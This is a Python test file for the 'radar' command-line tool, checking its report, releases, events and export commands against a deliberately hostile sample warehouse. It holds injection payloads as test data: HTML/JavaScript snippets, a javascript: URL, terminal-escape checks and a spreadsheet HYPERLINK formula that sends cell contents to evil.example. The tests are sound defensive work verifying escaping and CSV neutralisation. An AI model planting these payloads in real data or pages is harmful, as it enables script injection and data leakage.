"""`radar report`, `radar releases`, `radar events`, `radar export` through the real CLI on a small warehouse."""
from __future__ import annotations

import json
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from cli.main import app
from tests.test_report import SCRIPT_PAYLOAD, hostile_warehouse
from warehouse import db

runner = CliRunner()


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    return hostile_warehouse(tmp_path / "wh" / "radar.duckdb")


def _run(*args: str, env: dict | None = None):
    return runner.invoke(app, list(args), env={"COLUMNS": "200", **(env or {})})


def _lines(output: str) -> list[dict]:
    return [json.loads(line) for line in output.splitlines() if line.strip()]


def test_commands_are_registered_with_help():
    for command in ("report", "releases", "events", "export"):
        result = _run(command, "--help")
        assert result.exit_code == 0, result.output
        assert "--db" in result.output


def test_report_writes_next_to_the_warehouse_by_default(warehouse):
    result = _run("report", "--db", str(warehouse))
    assert result.exit_code == 0, result.output
    out = warehouse.parent / "report.html"
    assert out.is_file() and "Report written to" in result.output
    text = out.read_text(encoding="utf-8")
    assert "<svg" in text and "<script>alert" not in text


def test_report_out_option_and_db_from_environment(warehouse, tmp_path):
    out = tmp_path / "elsewhere" / "r.html"
    result = _run("report", "--out", str(out), env={"RADAR_DB_PATH": str(warehouse)})
    assert result.exit_code == 0, result.output
    assert out.is_file() and not (warehouse.parent / "report.html").exists()


def test_report_on_a_missing_warehouse_is_a_clear_error(tmp_path):
    result = _run("report", "--db", str(tmp_path / "nope.duckdb"))
    assert result.exit_code == 2
    assert "no warehouse" in result.output and "Traceback" not in result.output
    assert not (tmp_path / "report.html").exists()


def test_releases_json_and_filters(warehouse):
    result = _run("releases", "--db", str(warehouse), "--json")
    assert result.exit_code == 0, result.output
    rows = _lines(result.output)
    assert {r["model"] for r in rows} == {"DeepSeek-R1", "GPT-4o", "Llama 3.1 8B", "<img src=x onerror=alert(2)>",
                                          "Fresh-1"}
    assert rows[0]["release_date"] == "2025-02"  # newest first, undated last
    assert {"org", "model", "open_weights", "license", "release_date", "first_seen_at", "sources"} <= set(rows[0])
    deepseek = next(r for r in rows if r["model"] == "DeepSeek-R1")
    assert (deepseek["sources"] == ["https://news.example/deepseek-r1"]
            and deepseek["first_seen_at"].startswith("2025-01-21"))

    def models(*args):
        result = _run("releases", "--db", str(warehouse), "--json", *args)
        assert result.exit_code == 0, result.output
        return {r["model"] for r in _lines(result.output)}

    assert models("--org", "deepseek") == {"DeepSeek-R1"}
    assert models("--org", "DEEPSEEK", "--closed-weights") == set()
    assert models("--open-weights") == {"DeepSeek-R1", "Llama 3.1 8B"}
    assert models("--closed-weights") == {"GPT-4o", "Fresh-1"}
    # A release dated to the month only counts from that month; an undated one by when it was first seen.
    assert models("--since", "2025-01-01") == {"DeepSeek-R1", "<img src=x onerror=alert(2)>", "Fresh-1"}
    assert models("--since", "2025-02-20") == {"<img src=x onerror=alert(2)>", "Fresh-1"}
    assert models("--since", "7d") == {"Fresh-1"}


def test_releases_table_shows_hostile_text_literally(warehouse):
    result = _run("releases", "--db", str(warehouse))
    assert result.exit_code == 0, result.output
    assert "DeepSeek-R1" in result.output and "Model releases: 5" in result.output
    assert SCRIPT_PAYLOAD in result.output.replace("\n", "") or "Evil<script>" in result.output


def test_events_json_filters_and_limit(warehouse):
    result = _run("events", "--db", str(warehouse), "--json", "--limit", "100")
    assert result.exit_code == 0, result.output
    rows = _lines(result.output)
    assert len(rows) == 10 and rows[0]["event_date"] == "2025-02"
    assert [r["event_date"] for r in rows][-2:] == [None, None]

    def keys(*args):
        result = _run("events", "--db", str(warehouse), "--json", *args)
        assert result.exit_code == 0, result.output
        return [r["event_key"] for r in _lines(result.output)]

    assert keys("--type", "funding") == ["funding|xai|series c", "funding|openai|2024-10"]
    assert keys("--type", "funding", "--limit", "1") == ["funding|xai|series c"]
    assert keys("--org", "openai") == ["funding|openai|2024-10", "model_release|openai|gpt-4o"]
    assert keys("--type", "legal", "--org", "the new york times") == ["legal|nyt|openai"]
    assert keys("--since", "2025-01-14", "--type", "policy") == []
    assert keys("--since", "2025-01-13", "--type", "policy") == ["policy|us|chip export controls"]
    funding = _lines(_run("events", "--db", str(warehouse), "--json", "--type", "funding").output)
    assert funding[1]["amount_usd"] == 6.6e9 and funding[1]["valuation_usd"] == 157e9


def test_events_table_survives_markup_and_terminal_escapes(warehouse):
    result = _run("events", "--db", str(warehouse), "--type", "partnership")
    assert result.exit_code == 0, result.output
    assert "[/]Rich[bold" in result.output and "[/bold] rich markup" in result.output  # text, not rich markup
    assert "\x1b" not in result.output and "\x07" not in result.output


@pytest.mark.parametrize("args,message", [
    (["events", "--type", "nonsense"], "unknown --type"),
    (["events", "--since", "yesterday"], "--since must be"),
    (["releases", "--since", "2025-02-30"], "--since must be"),
    (["export", "--format", "xlsx", "OUT"], "unknown --format"),
])
def test_bad_options_are_clear_errors(warehouse, tmp_path, args, message):
    args = [str(tmp_path / a) if a == "OUT" else a for a in args]
    result = _run(*args, "--db", str(warehouse))
    assert result.exit_code == 2, result.output
    assert message in result.output and "Traceback" not in result.output


def test_events_on_a_missing_warehouse(tmp_path):
    result = _run("events", "--db", str(tmp_path / "nope.duckdb"))
    assert result.exit_code == 2 and "no warehouse" in result.output


def _marts_views(path: Path) -> list[str]:
    return db.query(path, "select table_name from information_schema.tables where table_schema = 'marts' "
                          "order by table_name")["table_name"].to_list()


def test_export_parquet_writes_one_readable_file_per_marts_view(warehouse, tmp_path):
    out = tmp_path / "export" / "nested"
    result = _run("export", "--format", "parquet", str(out), "--db", str(warehouse))
    assert result.exit_code == 0, result.output
    views = _marts_views(warehouse)
    assert {"events", "model_releases", "org_activity", "feed_health"} <= set(views)
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{v}.parquet" for v in views)
    for view in views:
        frame = pl.read_parquet(out / f"{view}.parquet")
        expected = db.query(warehouse, f"select * from marts.{view}")
        assert frame.height == expected.height and frame.columns == expected.columns, view
        assert f"marts.{view}" in result.output
    events = pl.read_parquet(out / "events.parquet")
    assert events.height == 10
    evil = events.filter(pl.col("event_key") == "model_release|evil|x").to_dicts()[0]
    assert evil["model"] == "<img src=x onerror=alert(2)>"  # exported exactly as stored
    assert evil["sources"] == ["https://news.example/deepseek-r1", "javascript:alert(document.domain)"]

    again = _run("export", str(out), "--db", str(warehouse))  # parquet is the default; files are replaced
    assert again.exit_code == 0, again.output
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{v}.parquet" for v in views)


def test_export_csv(warehouse, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with db.writing(warehouse) as con:  # a feed can put a spreadsheet formula into any text field
        con.execute("update core.events set partner = ? where event_key = 'partnership|markup|x'", [formula])
    result = _run("export", "--format", "csv", str(tmp_path / "csv"), "--db", str(warehouse))
    assert result.exit_code == 0, result.output
    views = _marts_views(warehouse)
    for view in views:
        frame = pl.read_csv(tmp_path / "csv" / f"{view}.csv")
        assert frame.height == db.query(warehouse, f"select count(*) as n from marts.{view}")["n"][0]
    releases = pl.read_csv(tmp_path / "csv" / "model_releases.csv")
    assert "DeepSeek-R1" in releases["model"].to_list()
    events = pl.read_csv(tmp_path / "csv" / "events.csv")
    assert events.filter(pl.col("event_key") == "partnership|markup|x")["partner"].to_list() == ["'" + formula]
    assert "OpenAI" in events["org"].to_list()  # ordinary text is untouched
    assert sorted(events["amount_usd"].drop_nulls().to_list()) == [6e9, 6.6e9]  # numbers stay numbers


def test_export_into_a_file_path_is_an_error(warehouse, tmp_path):
    target = tmp_path / "a-file"
    target.write_text("x")
    result = _run("export", str(target), "--db", str(warehouse))
    assert result.exit_code == 2 and "not a directory" in result.output
